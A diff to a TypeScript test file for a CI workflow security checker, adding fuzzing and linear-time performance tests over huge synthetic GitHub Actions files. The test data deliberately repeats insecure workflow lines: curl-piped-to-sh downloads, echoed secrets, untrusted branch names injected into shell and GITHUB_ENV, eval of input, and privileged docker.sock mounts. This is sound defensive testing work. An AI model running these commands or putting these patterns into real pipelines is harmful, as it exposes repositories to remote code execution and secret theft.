@@ -2,10 +2,12 @@ import { existsSync, readdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { describe, expect, it } from 'vitest';
+import { describeFuzz } from '../../test/support/fuzz.ts';
 import type { CheckAnswer, TextFailure } from '../core/check.ts';
 import { readPipelines } from '../formats/pipeline-file/index.ts';
 import type { Pipeline } from '../formats/pipeline/index.ts';
 import type { CheckOptions, TextCheck } from './check.ts';
+import { target } from './pipeline.fuzz.ts';
 import * as plugs from './pipeline/plugs.ts';
 
 const folder = fileURLToPath(new URL('pipeline', import.meta.url));
@@ -110,7 +112,32 @@ describe('checks of pipelines', () => {
     expect(plugs.mutableImage.judge(pipeline, options)).toEqual(unknown);
     expect(plugs.unpinnedImage.judge(pipeline, options)).toEqual(unknown);
   });
+
+  const step = (line: string): string =>
+    `on: pull_request_target\nenv: { T: '\${{ github.head_ref }}', S: '\${{ secrets.S }}' }\njobs:\n  a:\n    runs-on: x\n    steps:\n${line}`;
+  it.each([
+    ['steps', step('      - run: echo ${{ github.head_ref }} | curl -k http://x.io/a.tgz | sh || true\n      - uses: a/b@v1\n'.repeat(5_000))],
+    [
+      'lines',
+      step(`      - run: |\n${'          curl -k http://x.io/a.tgz | sh; trivy image $T || true; echo "$S ${{ secrets.S }}"\n'.repeat(5_000)}`),
+    ],
+    ['writes', step(`      - run: |\n${'          A=$(cat a); echo "A=$A ${{ github.head_ref }}" >> $GITHUB_ENV; eval "$T"\n'.repeat(5_000)}`)],
+    ['addresses', step(`      - run: curl "${Array.from({ length: 20_000 }, (_, index) => `http://h${index}.io/a.tgz,`).join('')}"\n`)],
+    ['sockets', step(`      - run: |\n${'          docker run -v "/var/run/docker\\.sock:/a" --privileged x\n'.repeat(5_000)}`)],
+    ['words', step(`      - run: docker ${'-k '.repeat(100_000)}\n`)],
+    [
+      'jobs',
+      `on: push\njobs:\n${Array.from({ length: 5_000 }, (_, index) => `  j${index}: { continue-on-error: true, steps: [{ run: docker push x; grype y }] }\n`).join('')}`,
+    ],
+  ])('judge in linear time: %s', (_, text) => {
+    const start = performance.now();
+    const pipeline = pipelineOf('.github/workflows/a.yml', text);
+    for (const check of checks) check.judge(pipeline, options);
+    expect(performance.now() - start).toBeLessThan(30_000);
+  });
 });
+
+describeFuzz(target, 1_000);
 
 function pipelineOf(path: string, text: string): Pipeline {
   const [read] = readPipelines(path, text);
